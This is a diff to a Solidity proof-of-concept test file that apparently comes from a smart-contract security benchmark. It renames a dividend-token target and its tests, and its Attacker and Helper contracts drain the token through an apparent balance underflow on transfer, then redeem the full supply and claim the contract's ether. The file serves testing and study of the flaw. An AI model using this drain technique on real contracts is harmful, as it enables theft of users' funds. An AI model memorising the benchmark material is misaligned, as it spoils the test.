@@ -1,6 +1,6 @@
 pragma solidity 0.5.17;
 
-import "./Cairn.sol";
+import "./DividendToken.sol";
 
 // assay-canary-fcf8353e-f2b2-444c-997a-60ea0ca60040
 
@@ -15,58 +15,55 @@ contract Proof {
     address constant ANN = address(0xA11);
     address constant BEN = address(0xB11);
 
-    Cairn internal cairn;
+    DividendToken internal token;
     Attacker internal thief;
 
     function setUp() public {
-        cairn = new Cairn();
+        token = new DividendToken();
         vm.deal(ANN, 1100 ether);
         vm.deal(BEN, 20 ether);
         vm.prank(ANN);
-        cairn.lay.value(1100 ether)();
-        thief = new Attacker(cairn);
+        token.mint.value(1100 ether)();
+        thief = new Attacker(token);
         vm.deal(address(thief), 1 ether);
     }
 
     function test_Regular() public {
-        require(cairn.balanceOf(ANN) == 990 ether && cairn.due(ANN) == 0, "first");
+        require(token.balanceOf(ANN) == 990 ether && token.claimable(ANN) == 0, "first");
         vm.prank(BEN);
-        cairn.lay.value(10 ether)();
-        require(cairn.balanceOf(BEN) == 9 ether && cairn.totalSupply() == 999 ether, "second");
-        require(cairn.due(ANN) > 0.999999 ether && cairn.due(ANN) <= 1 ether, "dividend");
+        token.mint.value(10 ether)();
+        require(token.balanceOf(BEN) == 9 ether && token.totalSupply() == 999 ether, "second");
+        require(token.claimable(ANN) > 0.999999 ether && token.claimable(ANN) <= 1 ether, "dividend");
         vm.prank(BEN);
-        cairn.takeOut(4 ether);
-        require(cairn.balanceOf(BEN) == 5 ether, "taken");
+        token.redeem(4 ether);
+        require(token.balanceOf(BEN) == 5 ether, "redeemed");
         vm.prank(BEN);
-        (bool ok, ) = address(cairn).call(abi.encodeWithSignature("takeOut(uint256)", 5 ether + 1));
-        require(!ok, "too many");
+        token.transfer(ANN, 1 ether);
         vm.prank(BEN);
-        cairn.transfer(ANN, 1 ether);
-        vm.prank(BEN);
-        cairn.transfer(address(cairn), 1 ether);
-        require(cairn.balanceOf(BEN) == 3 ether, "left");
-        uint256 due = cairn.due(BEN);
+        token.transfer(address(token), 1 ether);
+        require(token.balanceOf(BEN) == 3 ether, "left");
+        uint256 due = token.claimable(BEN);
         require(due >= 4.5 ether && due < 4.51 ether, "due");
         vm.prank(BEN);
-        cairn.collect();
-        require(BEN.balance == 10 ether + due && cairn.due(BEN) == 0, "collected");
+        token.claim();
+        require(BEN.balance == 10 ether + due && token.claimable(BEN) == 0, "claimed");
 
         vm.prank(BEN);
-        cairn.approve(address(this), 2 ether);
-        cairn.transferFrom(BEN, address(0xCAFE), 1 ether);
-        require(cairn.balanceOf(address(0xCAFE)) == 1 ether && cairn.balanceOf(BEN) == 2 ether, "from");
-        (ok, ) = address(cairn).call(
+        token.approve(address(this), 2 ether);
+        token.transferFrom(BEN, address(0xCAFE), 1 ether);
+        require(token.balanceOf(address(0xCAFE)) == 1 ether && token.balanceOf(BEN) == 2 ether, "from");
+        (bool ok, ) = address(token).call(
             abi.encodeWithSignature("transferFrom(address,address,uint256)", BEN, address(0xCAFE), 1 ether + 1)
         );
         require(!ok, "allowance");
 
-        // the agent of a holder takes stones out; both hold some
-        cairn.lay.value(0)();
+        // the agent of a holder redeems tokens; both hold some
+        token.mint.value(0)();
         vm.prank(BEN);
-        cairn.transfer(address(this), 1 ether);
-        uint256 supply = cairn.totalSupply();
-        cairn.transferFrom(BEN, address(cairn), 1 ether);
-        require(cairn.totalSupply() == supply - 1 ether, "taken out by agent");
+        token.transfer(address(this), 1 ether);
+        uint256 supply = token.totalSupply();
+        token.transferFrom(BEN, address(token), 1 ether);
+        require(token.totalSupply() == supply - 1 ether, "redeemed by agent");
     }
 
     // What is refused, each from the state after setUp().
@@ -77,26 +74,21 @@ contract Proof {
         vm.expectRevert(why);
     }
 
-    /// Stones and ether that are not there.
+    /// Tokens and ether that are not there.
     function test_RefusesPayments() public {
         vm.prank(BEN);
-        cairn.lay.value(10 ether)();
-        refuses(BEN, "stones");
-        cairn.transfer(ANN, 9 ether + 1);
+        token.mint.value(10 ether)();
+        refuses(BEN, "sender does not have enough tokens");
+        token.transfer(ANN, 9 ether + 1);
+        refuses(BEN, "redeemer does not have enough tokens");
+        token.redeem(9 ether + 1);
         vm.prank(BEN);
-        cairn.approve(address(this), 100 ether);
-        vm.expectRevert("stones");
-        cairn.transferFrom(BEN, ANN, 9 ether + 1);
-        vm.deal(address(cairn), 0);
-        refuses(ANN, "payment");
-        cairn.collect();
-    }
-
-    /// Sums that no number holds.
-    function test_RefusesNumbers() public {
-        vm.deal(BEN, uint256(-1));
-        refuses(BEN, "product");
-        cairn.lay.value(uint256(-1) - 2000 ether)();
+        token.approve(address(this), 100 ether);
+        vm.expectRevert("source does not have enough tokens");
+        token.transferFrom(BEN, ANN, 9 ether + 1);
+        vm.deal(address(token), 0);
+        refuses(ANN, "ether was not accepted");
+        token.claim();
     }
 
     function exploit() public {
@@ -110,7 +102,7 @@ contract Proof {
     }
 
     function target() public view returns (address) {
-        return address(cairn);
+        return address(token);
     }
 
     function attacker() public view returns (address) {
@@ -122,29 +114,29 @@ contract Proof {
 contract Helper {
     function () external payable {}
 
-    /// Takes one stone of its owner's out, and then has as many as a number can hold.
-    function run(Cairn cairn, uint256 stones) external {
-        cairn.transferFrom(msg.sender, address(cairn), 1);
-        cairn.transfer(msg.sender, stones);
+    /// Redeems one token of its owner's, and then has as many as a number can hold.
+    function run(DividendToken token, uint256 tokens) external {
+        token.transferFrom(msg.sender, address(token), 1);
+        token.transfer(msg.sender, tokens);
     }
 }
 
 contract Attacker {
-    Cairn internal cairn;
+    DividendToken internal token;
 
-    constructor(Cairn cairn_) public {
-        cairn = cairn_;
+    constructor(DividendToken token_) public {
+        token = token_;
     }
 
     function () external payable {}
 
     function run() external {
-        cairn.lay.value(1 ether)();
+        token.mint.value(1 ether)();
         Helper helper = new Helper();
-        cairn.approve(address(helper), 1);
-        uint256 goal = cairn.totalSupply() - cairn.balanceOf(address(this)) - 1;
-        helper.run(cairn, goal);
-        cairn.takeOut(cairn.totalSupply());
-        cairn.collect();
+        token.approve(address(helper), 1);
+        uint256 goal = token.totalSupply() - token.balanceOf(address(this)) - 1;
+        helper.run(token, goal);
+        token.redeem(token.totalSupply());
+        token.claim();
     }
 }
